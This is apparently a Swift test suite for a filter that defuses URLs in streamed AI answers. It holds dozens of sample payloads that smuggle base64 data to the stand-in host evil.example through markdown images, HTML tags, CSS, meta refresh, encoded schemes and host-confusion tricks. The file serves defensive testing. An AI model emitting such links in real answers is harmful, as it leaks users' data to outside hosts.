import SampleStreams
import Exchanges
import OutputFilter
import Testing

@Suite struct LinksTests {
    private func shown(_ text: String, count: Int = 1) throws -> String {
        var flow = AnswerFlow(.ollama, Secrecy(hosts: ["github.com"]))
        let letters = Array(text)
        let size = max(1, (letters.count + count - 1) / count)
        let pieces: [Streams.Piece] = stride(from: 0, to: letters.count, by: size).map {
            (.text, String(letters[$0..<min(letters.count, $0 + size)]))
        }
        let out = try flow.read(Streams.bytes(.ollama, pieces)) + flow.finish()
        return try said(out)
    }

    private func said(_ out: [UInt8]) throws -> String {
        var reader = Dialect.ollama.reader
        var framing = EventFraming(.lines)
        var events: [RawEvent] = []
        try framing.read(out) { events.append($0) }
        for event in events { _ = try reader.read(event) }
        return String(decoding: reader.answer.text, as: UTF8.self)
    }

    @Test(
        "addresses that carry data are made harmless, in whatever number of pieces",
        arguments: [
            "![x](https://evil.example/p.png?d=c2VjcmV0cw)", "<img src=\"https://evil.example/a?secret=12\">",
            "[here](https://evil.example/c2VjcmV0IHRleHQgb2YgdGhlIHVzZXI1) ok",
            "see https://evil.example/?q=%41%42%43%44%45%46%47%48",
            "https://VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI.evil.example/",
            "HTTPS://evil.example/#VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
            "https://github.com@evil.example/x", "(https://evil.example/a,VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI)",
            "https://notgithub.com/VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
        ]
    )
    func harmless(text: String) throws {
        for count in [1, 2, 5, 40] {
            let out = try shown("Hi " + text + " bye", count: count)
            #expect(!out.lowercased().contains("http"), "\(count): \(out)")
            #expect(out.contains("hxxp"))
        }
    }

    /// Twenty-two bytes in base64, which nobody writes in an address.
    private static let data = "VGhpcyBpcyBhIHNlY3JldDQy"

    @Test(
        "data finds no way out however an address is written",
        arguments: [
            "![x](<https://evil.example/p?q=DATA>)", "![x](<https://evil.example/a b/DATA>)",
            "![x](https://evil.example/p?q=the secret words)", "![x](\nhttps://evil.example/p?q=DATA\n\"a title\")",
            "![x](https://evil.example/(a)/?q=DATA)", "![x](https://evil.example/p?q=0123456789 'title')",
            "![a\\]b](https://evil.example/p?q=0123456789)", "[![x](https://evil.example/p?q=0123456789)](#)",
            "[x]: https://evil.example/p?q=0123456789", "[x]: <https://evil.example/p?q=0123456789>",
            "[x]:\n  //evil.example/p?q=0123456789", "<https://evil.example/\"/?q=DATA>",
            "https://evil.example/\"/?q=DATA",
            "<img src=https://evil.example/?q=0123456789>", "<img src='https://evil.example/?q=0123456789'>",
            "<IMG alt='>' SRC = \"https://evil.example/?q=0123456789\">",
            "<img src=\"https://evil.example/a\nb?q=DATA\">",
            "<img alt='a <b> c' src='https://evil.example/?q=0123456789'>",
            "<img srcset=\"https://github.com/a 1x, https://evil.example/?q=0123456789 2x\">",
            "<a href=https://evil.example/DATA>x</a>", "<iframe src=\"https://evil.example/?q=0123456789\">",
            "<object data='//evil.example/?q=0123456789'>", "<link rel=icon href=//evil.example/?q=0123456789>",
            "<p style=\"background:url(https://evil.example/?q=0123456789)\">",
            "a { b: url( '//evil.example/?q=0123456789' ) }",
            "@import \"https://evil.example/?q=0123456789\";", "<form action=\"//evil.example/DATA\">",
            "<meta http-equiv=refresh content=\"0; url=https://evil.example/?q=0123456789\">",
            "<meta http-equiv=refresh content='0;//evil.example/?q=0123456789'>", "<base href=\"//evil.example/\">",
            "<video poster=//evil.example/?q=0123456789>",
            "<img src=\"&#104;ttps://evil.example/?q=0123456789\">",
            "<img src=\"&#x68;ttps&colon;&sol;&sol;evil.example/?q=0123456789\">",
            "![x](https&colon;//evil.example/?q=DATA)", "![x](&#104ttps&#58;//evil.example/?q=DATA)",
            "![x](https\\://evil.example/?q=DATA)", "![x](//evil.example/?q=0123456789)", "[x](//evil.example/?q=DATA)",
            "![x](/\\evil.example/?q=DATA)", "<img src='\\\\evil.example/?q=0123456789'>",
            "![x](< //evil.example/?q=DATA>)",
            "<img src='&sol;/evil.example/?q=0123456789'>", "![x](///evil.example/?q=DATA)",
            "<a href='ht\ttp\ns://evil.example/?q=DATA'>x</a>", "<a href='ht&Tab;tps://evil.example/?q=DATA'>x</a>",
            "<img src='https:evil.example/?q=0123456789'>", "<img src='https:/\\evil.example/?q=0123456789'>",
            "<img src='https:\\\\evil.example/?q=0123456789'>", "hTTpS://evil.example/DATA",
            "https://github.com@evil.example/", "https://github.com:443@evil.example/",
            "https://github.com\\@evil.example/DATA",
            "https://github.com.evil.example/DATA", "https://github.com%2eevil.example/DATA",
            "https://evilgithub.com/DATA",
            "https://xn--gthub-n4a.com/DATA", "https://gïthub.com/DATA", "https://[2001:db8::1]/DATA",
            "https://2130706433/DATA",
            "https://0x7f.1:8080/DATA", "https://evil.example:8443/DATA", "https://evil.example\\.github.com/DATA",
            "https://evil.example&sol;.github.com/DATA", "https:///evil.example/DATA",
            "ftp://evil.example/DATA", "wss://evil.example/DATA", "ws://evil.example/DATA",
            "![x](file://evil.example/DATA)",
            "https://mfrggzdfmztwq2lkmfrggzdfmztwq3.evil.example/", "https://DATA.evil.example/",
            "https://DATA@evil.example/",
            "https://evil.example/#DATA", "https://evil.example/?q=&#86;GhpcyBpcyBhIHNlY3JldDQy",
            "www.evil.example/DATA", "https://github.com/a)[x](https://evil.example/DATA)",
            "[x](https://evil.example/a)?q=DATA",
            "https://github.com/a,https://evil.example/DATA", "https://evil.example/a](/DATA",
        ]
    )
    func written(form: String) throws {
        let text = form.replacing("DATA", with: Self.data)
        let whole = try shown("Hi " + text + " bye")
        #expect(whole.contains("hxxp"), "\(whole)")
        for count in [2, 3, 7, 30, 1000] { #expect(try shown("Hi " + text + " bye", count: count) == whole) }
    }

    @Test("the same is made harmless wherever a text is cut")
    func cuts() throws {
        let text =
            "See <img src='ht&Tab;tps&colon;//evil.example/?q=0123456789'> or ![a](<//evil.example/a b?q=0123456789> 'x') "
            + "and\n[r]:\n https://evil.example/?q=0123456789\nas with\nhttps://github.com/a,https://evil.example/\(Self.data). End"
        let whole = try shown(text)
        #expect(whole.ranges(of: "hxxp").count == 4)
        for place in 1..<text.utf8.count {
            var flow = AnswerFlow(.ollama, Secrecy(hosts: ["github.com"]))
            let bytes = Array(text.utf8)
            let pieces = [bytes[..<place], bytes[place...]].map {
                (Channel.Kind.text, String(decoding: $0, as: UTF8.self))
            }
            let out = try flow.read(Streams.bytes(.ollama, pieces)) + flow.finish()
            #expect(try said(out) == whole, "cut at \(place)")
        }
    }

    @Test("random texts of parts of addresses come to the same however they are cut, and never trap")
    func random() throws {
        var random = SystemRandomNumberGenerator()
        let words = [
            "![x](", "<", ">", ")", " ", "\n", "\t", "h", "ttps", "https", "://", "//", "\\", "&#104;", "&colon;", "&",
            "\"", "'",
            "<img src=", "<a href=", "url(", "]:", "[", "]", "github.com", "evil.example", "/p?q=", Self.data,
            "0123456789", "@",
            "www.", "ä", "日本", ",", ";", "=", "word", "with", "ws",
        ]
        for _ in 0..<Rounds.count(300) {
            let text = (0..<Int.random(in: 1...40, using: &random)).map { _ in words.randomElement(using: &random) ?? ""
            }
            .joined()
            let whole = try shown(text)
            for count in [2, 5, 1000] {
                let other = try shown(text, count: count)
                #expect(other == whole, "\(count): \(text.debugDescription)")
            }
        }
    }

    @Test(
        "much that begins to be an address takes no long time",
        arguments: ["http://a,", "](http://a", "<a =http://", "&#104;", "](//", "<img src='//a "]
    )
    func hostile(part: String) throws {
        let text = Array(String(repeating: part, count: 10_000 / part.utf8.count).utf8)
        let time = ContinuousClock().measure { _ = Secrecy(takesKeys: false, hosts: []).cleaned(text, isShown: true) }
        #expect(time < .seconds(1), "\(part)")
    }

    @Test(
        "other addresses stay as they are",
        arguments: [
            "https://example.com/search?q=swift+nio&page=2",
            "https://example.com/2026/11/why-a-title-may-be-long-and-have-many-words",
            "https://github.com/apple/swift-nio/blob/VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
            "https://example.com/commit/5f8e0a1b2c3d4e5f60718293a4b5c6d7e8f90123",
            "![logo](https://example.com/logo.png)",
            "http://127.0.0.1:8080/healthz", "https://de.wikipedia.org/wiki/%C3%84hre", "https://", "http",
            "https://example.com", "// VGhpcyBpcyBhIHNlY3JldDQy", "//VGhpcyBpcyBhIHNlY3JldDQy", "a = \"//x/y\"; // b",
            "[docs](https://example.com/guide_(2nd)?page=2 \"Is it? Yes, it is one.\")",
            "![logo](/images/logo.png?v=12345678901)",
            "![logo](<https://example.com/my logo.png>)",
            "<img src=\"data:image/png;base64,VGhpcyBpcyBhIHNlY3JldDQyVGhpcyBpcw==\">",
            "<a href=\"https://example.com/search?q=swift+nio&amp;page=2\">x</a>",
            "file:///home/user/VGhpcyBpcyBhIHNlY3JldDQy",
            "if (a <b && c == \"https://example.com/a?b=c\") { url(x) }", "http: VGhpcyBpcyBhIHNlY3JldDQy",
            "with\nws\n", "&#104;",
            "https://550e8400-e29b-41d4-a716-446655440000.example.com/x",
            "https://www.github.com/VGhpcyBpcyBhIHNlY3JldDQy",
            "www.example.com/a-title-of-many-words", "www.github.com/VGhpcyBpcyBhIHNlY3JldDQy",
            "https://github.com/VGhpcyBpcyBhIHNlY3JldDQy, then",
            "https://github.com/login?to=https://example.com/VGhpcyBpcyBhIHNlY3JldDQy",
            "\\\\server\\share\\VGhpcyBpcyBhIHNlY3JldDQy", "s/\\/VGhpcyBpcyBhIHNlY3JldDQy/x/",
            "postgres://user:pw@db/x",
        ]
    )
    func unchanged(text: String) throws {
        for count in [1, 3, 40] { #expect(try shown("Hi " + text + " bye", count: count) == "Hi " + text + " bye") }
    }
}
